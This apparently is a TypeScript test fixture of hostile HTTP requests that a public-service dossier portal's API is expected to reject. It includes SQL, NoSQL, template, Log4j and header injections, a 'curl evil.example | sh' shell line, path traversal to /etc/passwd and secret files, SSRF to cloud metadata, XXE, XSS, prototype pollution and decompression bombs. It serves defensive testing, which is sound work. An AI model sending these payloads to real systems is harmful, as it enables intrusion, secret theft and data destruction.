/** Requests that nobody should get anything by, as tables. `as` says who asks; `statuses` what may be answered beside the usual 400, 404 and 422. */
import { gzipSync } from 'node:zlib';

export type Asker = 'visitor' | 'citizen' | 'stranger' | 'reception' | 'elsewhere' | 'administrator' | 'machine';

export interface HostileRequest {
  readonly what: string;
  readonly as: Asker;
  readonly method: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer | FormData;
  readonly statuses?: readonly number[];
}

/** What is written where an id, a code, a date or a word of a list belongs. */
const INJECTIONS: Readonly<Record<string, string>> = {
  'SQL, always true': `' OR '1'='1`,
  'SQL, a second statement': `1; DROP TABLE dossiers; --`,
  'SQL, a union': `0 UNION SELECT id_token FROM motcua_sessions`,
  'SQL, waiting': `1 AND (SELECT pg_sleep(30)) IS NULL`,
  'an operator of a document store': `{"$ne":null}`,
  LDAP: `*)(uid=*))(|(uid=*`,
  'a template of Nunjucks': `{{range.constructor("return process")()}}`,
  'a template of EJS': `<%= process.env.MOTCUA_SECRET %>`,
  'a look-up of Log4j': '${jndi:ldap://evil.example/x}',
  'a header': `1\r\nSet-Cookie: motcua_session=evil`,
  'a shell': `1; curl evil.example | sh`,
  'a path': `../../../../etc/passwd`,
  'a NUL': `1\0`,
  'an address inside': `http://169.254.169.254/latest/meta-data/`,
  'a file as address': `file:///etc/passwd`,
  'a socket as address': `gopher://127.0.0.1:5432/_x`,
  markup: `<img src=x onerror=alert(1)>`,
  'a number too large': `99999999999999999999`,
};

const json = { 'content-type': 'application/json' };
const key = { 'idempotency-key': 'hostile-0000001' };

/** Where they are written. */
const SLOTS: Readonly<Record<string, (value: string) => Omit<HostileRequest, 'what'>>> = {
  'the id of a dossier': (value) => ({
    as: 'reception',
    method: 'GET',
    path: `/api/office/dossiers/${encodeURIComponent(value)}`,
  }),
  'the id of a file of a list': (value) => ({
    as: 'reception',
    method: 'GET',
    path: `/api/office/exports/${encodeURIComponent(value)}/file`,
  }),
  'the code of a paper': (value) => ({
    as: 'reception',
    method: 'GET',
    path: `/api/office/documents/${encodeURIComponent(value)}/pdf`,
  }),
  'the connector to deliver to': (value) => ({
    as: 'administrator',
    method: 'POST',
    path: `/api/office/targets/${encodeURIComponent(value)}/deliver`,
  }),
  'the code of a handed-over dossier': (value) => ({
    as: 'machine',
    method: 'POST',
    path: `/api/exchange/dossiers/${encodeURIComponent(value)}/acts`,
    headers: { ...json, ...key },
    body: '{"type":"DECIDED"}',
  }),
  'the procedure that is filed': (value) => ({
    as: 'machine',
    method: 'POST',
    path: '/api/exchange/dossiers',
    // No such procedure is answered as none that can be filed online.
    statuses: [409],
    headers: { ...json, ...key },
    body: JSON.stringify({
      procedureCode: value,
      applicant: { personalNumber: '025192000145', fullName: 'X' },
      answers: {},
    }),
  }),
  'the person who files': (value) => ({
    as: 'machine',
    method: 'POST',
    path: '/api/exchange/dossiers',
    headers: { ...json, ...key },
    body: JSON.stringify({
      procedureCode: '1.004873',
      applicant: { personalNumber: value, fullName: 'X' },
      answers: {},
    }),
  }),
  'the group of a list': (value) => ({
    as: 'reception',
    method: 'GET',
    path: `/api/office/inbox?filter=${encodeURIComponent(JSON.stringify({ group: value }))}`,
  }),
  'the portion of a list': (value) => ({
    as: 'reception',
    method: 'GET',
    path: `/api/office/inbox?range=${encodeURIComponent(value)}`,
  }),
  'a day': (value) => ({
    as: 'administrator',
    method: 'GET',
    path: `/api/office/quality?from=${encodeURIComponent(value)}`,
  }),
  'the list of a file': (value) => ({
    as: 'reception',
    method: 'POST',
    path: '/api/office/exports',
    headers: json,
    body: JSON.stringify({ list: value, format: 'csv' }),
  }),
  'an own dossier': (value) => ({ as: 'citizen', method: 'GET', path: `/ho-so/${encodeURIComponent(value)}` }),
  'an own file': (value) => ({ as: 'citizen', method: 'GET', path: `/papers/${encodeURIComponent(value)}` }),
};

const injections: readonly HostileRequest[] = Object.entries(SLOTS).flatMap(([slot, request]) =>
  Object.entries(INJECTIONS).map(([what, value]) => ({ what: `${what} for ${slot}`, ...request(value) })),
);

const POSTS: readonly { readonly as: Asker; readonly path: string; readonly method?: string }[] = [
  { as: 'machine', path: '/api/exchange/dossiers' },
  { as: 'reception', path: '/api/office/filings' },
  { as: 'reception', path: '/api/office/exports' },
  { as: 'reception', path: '/api/office/views' },
  { as: 'reception', path: '/api/office/dossiers/acts' },
  { as: 'reception', path: '/api/office/receipts/joined' },
  { as: 'reception', path: '/api/office/counter/form' },
  { as: 'administrator', path: '/api/office/calendar/preview' },
];

/** Bodies that are none. */
const BODIES: Readonly<Record<string, string | Buffer>> = {
  'a prototype': '{"__proto__":{"admin":true}}',
  'a prototype deep inside': '{"answers":{"a":{"constructor":{"prototype":{"admin":true}}}}}',
  'a hundred thousand levels': `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
  'a NUL': '{"reason":"a\\u0000b"}',
  'half a letter': '{"reason":"\\ud800"}',
  'a list for an object': '[1,2,3]',
  'an operator for a text': '{"procedureCode":{"$gt":""},"list":{"$gt":""},"name":{"$gt":""},"ids":{"$gt":""}}',
};

const FILTERS = ['{"unit":"\\u0000"}', '{"content":"\\ud800"}'];
const addresses: readonly HostileRequest[] = [
  ...FILTERS.map((filter) => ['GET', `inbox/choices?filter=${encodeURIComponent(filter)}`] as const),
  ['DELETE', 'views/1?version=9007199254740990'] as const,
].map(([method, path]) => ({ what: path, as: 'reception', method, path: `/api/office/${path}` }));

const bodies: readonly HostileRequest[] = POSTS.flatMap(({ as, path, method = 'POST' }) =>
  Object.entries(BODIES).map(([what, body]) => ({
    what: `${what} to ${path}`,
    as,
    method,
    path,
    headers: { ...json, ...key },
    body,
  })),
);

const form = (files: number, fields: number, name = 'a.jpg'): FormData => {
  const made = new FormData();
  for (let n = 0; n < files; n += 1) made.append(`f${n}`, new Blob(['x']), name);
  for (let n = 0; n < fields; n += 1) made.append(`v${n}`, 'x');
  return made;
};

const upload = '/api/office/counter/papers';
const shapes: readonly HostileRequest[] = [
  {
    what: 'JSON that stops',
    as: 'reception',
    method: 'POST',
    path: '/api/office/views',
    headers: json,
    body: '{"name":',
  },
  {
    what: 'JSON of 2 MB',
    as: 'reception',
    method: 'POST',
    path: '/api/office/views',
    headers: json,
    body: `"${'x'.repeat(2_000_000)}"`,
    statuses: [413],
  },
  {
    what: 'JSON that unpacks to 50 MB',
    as: 'reception',
    method: 'POST',
    path: '/api/office/views',
    headers: { ...json, 'content-encoding': 'gzip' },
    body: gzipSync(Buffer.alloc(50_000_000, 0x20)),
    statuses: [413, 415],
  },
  {
    what: 'a packing that nobody knows',
    as: 'reception',
    method: 'POST',
    path: '/api/office/views',
    headers: { ...json, 'content-encoding': 'evil' },
    body: '{}',
    statuses: [415],
  },
  {
    what: 'a character set that nobody knows',
    as: 'reception',
    method: 'POST',
    path: '/api/office/views',
    headers: { 'content-type': 'application/json; charset=evil' },
    body: '{}',
    statuses: [415],
  },
  {
    what: 'XML',
    as: 'reception',
    method: 'POST',
    path: '/api/office/views',
    headers: { 'content-type': 'application/xml' },
    body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    statuses: [415],
  },
  {
    what: 'half a megabyte of fields',
    as: 'reception',
    method: 'POST',
    path: '/api/office/views',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'a=1&'.repeat(120_000),
    statuses: [413],
  },
  {
    what: 'multipart without a boundary',
    as: 'reception',
    method: 'POST',
    path: upload,
    headers: { 'content-type': 'multipart/form-data' },
    body: 'x',
  },
  {
    what: 'multipart that stops',
    as: 'reception',
    method: 'POST',
    path: upload,
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
    body: '--x\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\nabc',
  },
  ...['--x\r\n-1.5e+16--x--\r\n', '--x\r\n: nothing\r\n\r\na\r\n--x--\r\n', '--xyz\r\n\r\na\r\n--xyz--'].map(
    (body, index) => ({
      what: `multipart that is broken, ${index + 1}`,
      as: 'reception' as const,
      method: 'POST',
      path: upload,
      headers: { 'content-type': 'multipart/form-data; boundary=x' },
      body,
    }),
  ),
  { what: 'forty files', as: 'reception', method: 'POST', path: upload, body: form(40, 0), statuses: [413] },
  { what: 'two thousand fields', as: 'reception', method: 'POST', path: upload, body: form(0, 2000), statuses: [413] },
  {
    what: 'a workbook that unpacks to 60 MB',
    as: 'reception',
    method: 'POST',
    path: '/api/office/filings/bulk',
    headers: { ...json, ...key },
    body: '$workbook',
  },
  ...[
    '__proto__[admin]=1',
    'filter[__proto__][admin]=1',
    'constructor[prototype][admin]=1',
    'a%5B__proto__%5D=1',
    '__proto__.admin=1',
  ].map((query): HostileRequest => ({
    what: `a prototype in the query: ${query}`,
    as: 'reception',
    method: 'GET',
    path: `/api/office/inbox?${query}`,
  })),
  ...[
    '/api/office/dossiers/%',
    '/api/office/dossiers/%E0%A4%A',
    '/api/office/dossiers/%c0%ae%c0%ae%2f',
    '/ho-so/%ff',
  ].map((path): HostileRequest => ({
    what: `a broken address: ${path}`,
    as: path.startsWith('/ho') ? 'citizen' : 'reception',
    method: 'GET',
    path,
  })),
  ...[
    '/assets/%2e%2e%2f%2e%2e%2fpackage.json',
    '/office/%2e%2e%2f%2e%2e%2fpackage.json',
    '/office/..%5c..%5cpackage.json',
    '/uploads/%2e%2e%2f%2e%2e%2fsecrets%2fsecrets.json',
    '/cms/%2e%2e%2f%2e%2e%2fpackage.json.map',
    '/assets/%252e%252e%252fpackage.json',
    '/.env',
    '/.git/config',
    '/secrets/secrets.json',
  ].map((path): HostileRequest => ({
    what: `a way out of a folder: ${path}`,
    as: 'visitor',
    method: 'GET',
    path,
    statuses: [403],
  })),
  ...['PUT', 'DELETE', 'PATCH', 'POST'].map((method): HostileRequest => ({
    what: `${method} where only GET is`,
    as: 'reception',
    method,
    path: '/api/office/me',
    headers: json,
    ...(method === 'DELETE' ? {} : { body: '{}' }),
    statuses: [405],
  })),
  ...['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'].map((header): HostileRequest => ({
    what: `another method by ${header}`,
    as: 'reception',
    method: 'POST',
    path: '/api/office/views/1',
    headers: { ...json, [header]: 'DELETE' },
    body: '{}',
    statuses: [405],
  })),
  ...[
    '/api/auth/local',
    '/api/auth/local/register',
    '/api/auth/forgot-password',
    '/api/users',
    '/api/upload',
    '/api/dossiers',
    '/api/officers',
    '/api/procedures?populate=*',
  ].map((path): HostileRequest => ({
    what: `Strapi's own door ${path}`,
    as: 'visitor',
    method: path.includes('local') || path.includes('upload') ? 'POST' : 'GET',
    path,
    headers: json,
    ...(path.includes('local') || path.includes('upload') ? { body: '{"identifier":"a","password":"b"}' } : {}),
    statuses: [401, 403, 405],
  })),
  ...[
    '/content-manager/collection-types/api::dossier.dossier',
    '/admin/users',
    '/admin/roles',
    '/content-type-builder/content-types',
    '/upload/files',
    '/single-window/moving/keys',
    '/records/document-templates',
    '/eform/forms',
    '/national-data/proposals',
  ].map((path): HostileRequest => ({
    what: `the panel without a session: ${path}`,
    as: 'visitor',
    method: 'GET',
    path,
    statuses: [401, 403],
  })),
];

export const hostileRequests: readonly HostileRequest[] = [...injections, ...addresses, ...bodies, ...shapes];
